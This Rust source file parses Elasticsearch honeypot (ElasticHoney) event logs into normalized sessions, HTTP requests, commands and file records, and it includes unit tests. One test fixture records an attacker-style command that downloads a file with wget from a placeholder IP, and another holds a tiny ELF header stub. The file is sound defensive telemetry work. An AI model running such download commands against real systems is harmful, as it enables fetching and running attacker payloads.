//! ElasticHoney (Elasticsearch honeypot): `elastichoney.events`.

use super::fields::{self as f};
use super::Result;
use apiary_model::bounded::{LONG, MEDIUM, SHORT};
use apiary_model::{HttpRequest, Normalized, RawEvent};
use serde_json::Value;

/// Splits elastichoney's `url` (`host:port/path?query`, sometimes with a scheme) into the
/// authority and the path.
fn split_url(url: &str) -> (&str, &str) {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    match rest.find('/') {
        Some(i) => (rest.get(..i).unwrap_or(""), rest.get(i..).unwrap_or("")),
        None => (rest, ""),
    }
}

/// `{source, @timestamp, url, method, form, payload, payloadCommand, payloadResource,
///   payloadMd5, payloadBinary (base64), headers: {user_agent, host, content_type,
///   accept_language}, type ("attack"|"recon"), honeypot (sensor IP)}` → a session to the
/// port in `url` (default 9200, protocol `elasticsearch` from the port table) with the HTTP
/// request (`payload` as body), `payloadCommand` in `commands`, `payloadResource` in `urls`,
/// `payloadMd5` in `hashes`, `type` in `extra`; plus a file record for `payloadBinary`.
/// `@timestamp` (RFC 3339) is used. Fix against mnemosyne: `source_port` is unknown
/// (`None`), not `0`; the destination port is read from the URL instead of assumed.
pub fn events(raw: &RawEvent, out: &mut Vec<Normalized>) -> Result<()> {
    let o = f::json_object(raw)?;
    let ts = f::time_field(&o, "@timestamp", raw.received_at)?;
    let mut s = f::new_session(raw, "elastichoney", ts);
    s.source_ip = Some(f::source_ip(&o, "source")?);
    let url = f::text(&o, "url", MEDIUM)?.unwrap_or_default();
    let (authority, path) = split_url(&url);
    let (url_ip, mut url_port) = f::split_addr_port(authority);
    if url_ip.is_none() {
        // `hostname:port`
        url_port = authority
            .rsplit_once(':')
            .and_then(|(_, p)| p.parse::<u16>().ok())
            .filter(|p| *p != 0);
    }
    s.destination_ip = f::ip(&o, "honeypot")?.or(url_ip);
    s.destination_port = url_port.or(Some(9200));
    let mut http = HttpRequest {
        method: f::text_nonempty(&o, "method", SHORT)?,
        path: (!path.is_empty()).then(|| path.to_string()),
        body: f::text_nonempty(&o, "payload", LONG)?,
        ..Default::default()
    };
    if let Some(h) = f::obj_field(&o, "headers")? {
        for (key, name) in [
            ("host", "host"),
            ("user_agent", "user-agent"),
            ("content_type", "content-type"),
            ("accept_language", "accept-language"),
        ] {
            if let Some(v) = f::get(h, key) {
                if let Some(v) = f::text_value(v, "headers", MEDIUM)?.filter(|v| !v.is_empty()) {
                    f::push_header(&mut http, name, &v);
                }
            }
        }
    }
    s.details.http = Some(http);
    s.details
        .commands
        .extend(f::text_nonempty(&o, "payloadCommand", MEDIUM)?);
    s.details
        .urls
        .extend(f::text_nonempty(&o, "payloadResource", MEDIUM)?);
    s.details
        .hashes
        .extend(f::str_field(&o, "payloadMd5")?.and_then(f::hash_hex));
    s.details.extra = f::extra(vec![
        (
            "type",
            f::text_nonempty(&o, "type", SHORT)?.map(Value::String),
        ),
        (
            "form",
            f::text_nonempty(&o, "form", MEDIUM)?.map(Value::String),
        ),
    ]);
    let file = match f::str_field(&o, "payloadBinary")?.filter(|b| !b.is_empty()) {
        Some(b64) => Some(
            f::base64_decode(b64).ok_or(super::NormalizeError::BadField {
                field: "payloadBinary",
                reason: "invalid base64",
            })?,
        ),
        None => None,
    }
    .map(|data| f::file_record(data, None, s.details.urls.first().cloned()));
    f::push_session(out, s);
    out.extend(file.map(Normalized::File));
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::super::NormalizeError;
    use apiary_model::{HttpRequest, Normalized, Session, SessionDetails};
    use serde_json::json;

    #[test]
    fn attack() {
        let s = one_session(
            "elastichoney.events",
            r#"{"source": "198.51.100.7", "@timestamp": "2019-06-20T12:00:00.123456789Z",
 "url": "203.0.113.5:9200/_search?source=%7B%7D", "method": "GET", "form": "",
 "payload": "{\"script_fields\":{}}",
 "payloadCommand": "wget http://198.51.100.9/a", "payloadResource": "", "payloadMd5": "", "payloadBinary": "",
 "headers": {"user_agent": "Mozilla/5.0", "host": "203.0.113.5:9200", "content_type": "", "accept_language": ""},
 "type": "attack", "honeypot": "203.0.113.5"}"#,
        );
        assert_eq!(
            s,
            Session {
                timestamp: ts("2019-06-20T12:00:00.123456789Z"),
                source_ip: ip("198.51.100.7"),
                source_port: None,
                destination_ip: ip("203.0.113.5"),
                destination_port: Some(9200),
                protocol: Some("elasticsearch".into()),
                honeypot: "elastichoney".into(),
                channel: "elastichoney.events".into(),
                details: SessionDetails {
                    http: Some(HttpRequest {
                        method: Some("GET".into()),
                        path: Some("/_search?source=%7B%7D".into()),
                        host: Some("203.0.113.5:9200".into()),
                        user_agent: Some("Mozilla/5.0".into()),
                        headers: vec![
                            ("host".into(), "203.0.113.5:9200".into()),
                            ("user-agent".into(), "Mozilla/5.0".into())
                        ],
                        body: Some("{\"script_fields\":{}}".into()),
                    }),
                    commands: vec!["wget http://198.51.100.9/a".into()],
                    extra: Some(json!({"type": "attack"})),
                    ..Default::default()
                },
                ..Default::default()
            }
        );
    }

    #[test]
    fn binary_payload_and_errors() {
        let out = run(
            "elastichoney.events",
            r#"{"source": "198.51.100.7", "url": "http://x:9201/", "payloadBinary": "f0VMRgI="}"#,
        );
        assert_eq!(out.len(), 2);
        let Normalized::Session(s) = &out[0] else {
            panic!()
        };
        assert_eq!(s.destination_port, Some(9201));
        assert_eq!(s.destination_ip, None);
        let Normalized::File(file) = &out[1] else {
            panic!()
        };
        assert_eq!(file.content_guess.as_deref(), Some("ELF"));
        assert!(matches!(
            fail(
                "elastichoney.events",
                r#"{"source": "198.51.100.7", "payloadBinary": "@@@"}"#
            ),
            NormalizeError::BadField {
                field: "payloadBinary",
                ..
            }
        ));
        assert!(matches!(
            fail(
                "elastichoney.events",
                r#"{"source": "198.51.100.7", "headers": "x"}"#
            ),
            NormalizeError::BadField {
                field: "headers",
                ..
            }
        ));
    }
}
